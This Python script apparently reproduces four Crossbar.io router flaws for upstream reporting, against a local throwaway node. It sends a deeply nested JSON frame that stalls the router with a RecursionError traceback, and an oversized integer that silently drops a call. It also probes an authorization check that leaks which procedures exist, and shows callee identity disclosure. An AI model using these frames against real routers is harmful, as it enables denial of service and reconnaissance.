"""Minimal reproductions, bare Crossbar.io (no gateway code): what one client's frames do to the router.

Run with the Python that has Crossbar installed::

    .venv/bin/python docs/upstream/crossbar_client_frames.py [deep|bigint|register|disclosure ...]

Starts a Crossbar node (one router, realm ``realm1``, WAMP over WebSocket with
JSON and msgpack) in a temporary directory. Role ``client`` (anonymous) may
only call and subscribe; role ``callee`` (WAMP-ticket ``callee``/``secret``)
may do anything. A callee registers ``com.example.echo`` (invoke
``roundrobin``) over msgpack. Then each scenario, printing what it observes:

deep
    A client sends one JSON frame of ``--depth`` (default 80,000) nested
    ``[`` before HELLO. autobahn's JSON decoder recurses in Python (Crossbar
    imports py_ecc, which raises the recursion limit to 100,000): the
    router parses 40,000 levels, but at 80,000 it raises RecursionError and
    logs the whole traceback (``autobahn/wamp/websocket.py`` ``onMessage``:
    ``traceback.format_exc()`` of the ProtocolError, whose context is the
    RecursionError), about 300,000 lines, 18 MB; that takes it over a
    minute, during which it serves nobody. Another client's HELLO sent
    meanwhile waits: the time to its WELCOME is printed, with the node log's
    growth. (This scenario takes that long.)
bigint
    A JSON client calls ``com.example.echo(10**40)``. The router cannot pack
    the INVOCATION for the msgpack callee (``OverflowError`` in
    ``Router.send``, inside a Deferred callback of ``Dealer.processCall``):
    the call is never answered, nothing is logged.
register
    The client (not allowed to register) registers ``com.example.echo`` with
    invoke ``single``: ``procedure_exists_with_different_invocation_policy``
    instead of ``not_authorized`` (``Dealer.processRegister`` builds its
    not_authorized reply, does not send it, and goes on to the conflict
    checks), which tells anyone which procedures exist.
disclosure
    The client calls ``com.example.echo``: the RESULT's details hold the
    callee's session id, authid and role (``Dealer.processYield``:
    ``disclose = True  # FIXME``); no setting turns that off.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import msgpack

PROCEDURE = "com.example.echo"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def node_config(port: int) -> dict[str, Any]:
    anything = {"call": True, "register": True, "publish": True, "subscribe": True}
    return {
        "version": 2,
        "controller": {},
        "workers": [{
            "type": "router",
            "realms": [{"name": "realm1", "roles": [
                {"name": "callee", "permissions": [{"uri": "", "match": "prefix", "allow": anything,
                                                    "disclose": {"caller": False, "publisher": False},
                                                    "cache": True}]},
                {"name": "client", "permissions": [{"uri": "", "match": "prefix",
                                                    "allow": {**anything, "register": False, "publish": False},
                                                    "disclose": {"caller": False, "publisher": False},
                                                    "cache": True}]},
            ]}],
            "transports": [{
                "type": "websocket", "endpoint": {"type": "tcp", "interface": "127.0.0.1", "port": port},
                "serializers": ["json", "msgpack"],
                "auth": {"anonymous": {"type": "static", "role": "client"},
                         "ticket": {"type": "static",
                                    "principals": {"callee": {"ticket": "secret", "role": "callee"}}}},
            }],
        }],
    }


class Peer:
    """WAMP over a raw WebSocket (JSON or msgpack)."""

    def __init__(self, port: int, serializer: str = "json") -> None:
        self.serializer = serializer
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=120)
        self.lock = threading.Lock()
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall((f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
                           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
                           f"Sec-WebSocket-Protocol: wamp.2.{serializer}\r\n\r\n").encode())
        self.buf = b""
        while b"\r\n\r\n" not in self.buf:
            self.buf += self.sock.recv(4096)
        self.buf = self.buf.split(b"\r\n\r\n", 1)[1]

    def frame(self, payload: bytes, opcode: int | None = None) -> None:
        opcode = opcode or (1 if self.serializer == "json" else 2)
        n, mask = len(payload), os.urandom(4)
        head = bytes([0x80 | opcode])
        head += (bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + struct.pack("!H", n) if n < 65536
                 else bytes([0x80 | 127]) + struct.pack("!Q", n))
        body = (int.from_bytes(payload, "big") ^ int.from_bytes((mask * (n // 4 + 1))[:n], "big")).to_bytes(n, "big")
        with self.lock:
            self.sock.sendall(head + mask + body)

    def send(self, message: Any) -> None:
        self.frame(json.dumps(message).encode() if self.serializer == "json" else msgpack.packb(message))

    def _read(self, n: int) -> bytes:
        while len(self.buf) < n:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            self.buf += chunk
        data, self.buf = self.buf[:n], self.buf[n:]
        return data

    def recv(self) -> Any:
        while True:
            b0, b1 = self._read(2)
            n = b1 & 0x7F
            if n == 126:
                n = struct.unpack("!H", self._read(2))[0]
            elif n == 127:
                n = struct.unpack("!Q", self._read(8))[0]
            payload = self._read(n)
            opcode = b0 & 0x0F
            if opcode == 9:
                self.frame(payload, 10)
            elif opcode in (1, 2):
                return json.loads(payload) if self.serializer == "json" else msgpack.unpackb(payload, raw=False)
            elif opcode == 8:
                raise ConnectionError("closed by the router")

    def join(self, **details: Any) -> Any:
        self.send([1, "realm1", {"roles": {"caller": {}, "callee": {}, "subscriber": {}}, **details}])
        while True:
            message = self.recv()
            if message[0] == 4:  # CHALLENGE
                self.send([5, "secret", {}])
            elif message[0] in (2, 3):
                return message


def run_callee(port: int) -> Peer:
    callee = Peer(port, "msgpack")
    assert callee.join(authmethods=["ticket"], authid="callee")[0] == 2
    callee.send([64, 1, {"invoke": "roundrobin"}, PROCEDURE])
    assert callee.recv()[0] == 65, "not REGISTERED"

    def serve() -> None:
        try:
            while True:
                message = callee.recv()
                if message[0] == 68:  # INVOCATION -> YIELD the arguments back
                    callee.send([70, message[1], {}, message[4] if len(message) > 4 else []])
        except (OSError, ConnectionError):
            pass

    threading.Thread(target=serve, daemon=True).start()
    return callee


def answer_to(peer: Peer, request: int, timeout: float) -> Any:
    peer.sock.settimeout(timeout)
    try:
        while True:
            message = peer.recv()
            if message[0] in (8, 50, 65) and request in message[1:3]:
                return message
    except TimeoutError:
        return None
    finally:
        peer.sock.settimeout(120)


def deep(port: int, log: Path, depth: int) -> None:
    before = log.stat().st_size
    attacker = Peer(port)
    attacker.frame(b"[" * depth + b"]" * depth)
    time.sleep(0.2)  # a reproduction script: let the router start on the frame
    started = time.monotonic()
    other = Peer(port)
    welcome = other.join()
    took = time.monotonic() - started
    size, steady_since = log.stat().st_size, time.monotonic()
    while time.monotonic() - steady_since < 3 and time.monotonic() - started < 300:  # the log is written late
        time.sleep(0.5)
        if log.stat().st_size != size:
            size, steady_since = log.stat().st_size, time.monotonic()
    print(f"deep: another client's HELLO -> WELCOME took {took:.1f} s "
          f"({'WELCOME' if welcome[0] == 2 else welcome}); the node log grew by {size - before} bytes")


def bigint(port: int) -> None:
    client = Peer(port)
    client.join()
    client.send([48, 7, {}, PROCEDURE, [10**40]])
    answer = answer_to(client, 7, timeout=10)
    print(f"bigint: CALL {PROCEDURE}(10**40) answered within 10 s: {answer}")
    client.send([48, 8, {}, PROCEDURE, [1]])
    print(f"bigint: the same CALL with 1: {answer_to(client, 8, timeout=10)}")


def register(port: int) -> None:
    client = Peer(port)
    client.join()
    client.send([64, 9, {"invoke": "single"}, PROCEDURE])
    print(f"register: REGISTER {PROCEDURE} (existing, another policy): {answer_to(client, 9, timeout=10)}")
    client.send([64, 10, {"invoke": "single"}, "com.example.new"])
    print(f"register: REGISTER com.example.new: {answer_to(client, 10, timeout=10)}")


def disclosure(port: int) -> None:
    client = Peer(port)
    client.join()
    client.send([48, 11, {}, PROCEDURE, ["hi"]])
    answer = answer_to(client, 11, timeout=10)
    print(f"disclosure: RESULT details to a client: {answer[2] if answer else answer}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("scenarios", nargs="*", default=["bigint", "register", "disclosure", "deep"])
    parser.add_argument("--depth", type=int, default=80_000)
    args = parser.parse_args()
    workdir = Path(tempfile.mkdtemp(prefix="cb-repro-"))
    port = free_port()
    (workdir / "config.json").write_text(json.dumps(node_config(port)))
    log_path = workdir / "node.log"
    log = open(log_path, "wb")
    node = subprocess.Popen([str(Path(sys.executable).parent / "crossbar"), "start", "--cbdir", str(workdir)],
                            stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if time.monotonic() > deadline or node.poll() is not None:
                    print("the node did not start:\n" + log_path.read_text()[-3000:])
                    return 2
                time.sleep(0.2)
        run_callee(port)
        for scenario in args.scenarios:
            if scenario == "deep":
                deep(port, log_path, args.depth)
            else:
                {"bigint": bigint, "register": register, "disclosure": disclosure}[scenario](port)
        return 0
    finally:
        os.killpg(node.pid, signal.SIGTERM)
        try:
            node.wait(20)
        except subprocess.TimeoutExpired:
            os.killpg(node.pid, signal.SIGKILL)
        log.close()
        shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
